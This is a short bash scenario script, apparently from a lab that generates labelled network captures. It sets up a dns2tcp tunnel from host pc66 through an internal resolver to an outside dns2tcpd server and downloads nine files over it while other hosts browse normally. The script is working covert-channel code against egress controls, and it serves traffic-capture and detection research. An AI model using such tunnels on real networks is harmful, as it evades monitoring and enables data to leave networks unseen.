# shellcheck shell=bash disable=SC2034
TITLE='dns2tcp: a TCP connection over DNS through the inside resolver'
KIND=attack
ATTACKER=(10.20.1.66)
VICTIMS=(10.20.1.66)
NEEDS=(web intra)
PROGRAMS=(dns2tcp unbound nsd nginx-light curl)
ORIGIN='pc66 runs dns2tcpc for d.store-sync.example through the resolver 10.20.0.53, which asks dns2tcpd on 203.0.113.53 (TXT answers); through it go nine small HTTP downloads. The capture point sees both legs. pc11 to pc13 browse meanwhile. The misused host is attacker and victim at once. Times as recorded.'

attack() {
  local s w c p
  printf 'listen = 203.0.113.53\nport = 53\nuser = nobody\nchroot = %s/empty\ndomain = d.store-sync.example\nresources = web:127.0.0.1:8080\n' "$W" >"$W/etc/dns2tcpd.conf"
  spawn tun dns2tcpd -F -d 1 -f "$W/etc/dns2tcpd.conf"
  s=$SPAWNED
  spawn tun python3 -m http.server -b 127.0.0.1 -d "$W/www/public" 8080
  w=$SPAWNED
  sleep 1
  spawn pc66 dns2tcpc -r web -z d.store-sync.example -l 8888 -d 1 10.20.0.53
  c=$SPAWNED
  sleep 2
  for p in {about,shop,index}.html report.txt img/{photo,vase,logo}.png news/ report.txt; do
    on pc66 curl -sS -m 40 -o /dev/null "http://127.0.0.1:8888/$p"
    sleep 1
  done
  sleep 2
  kill "$c" "$s" "$w"
}

scenario() { with_life 'pc11 pc12 pc13' attack; }
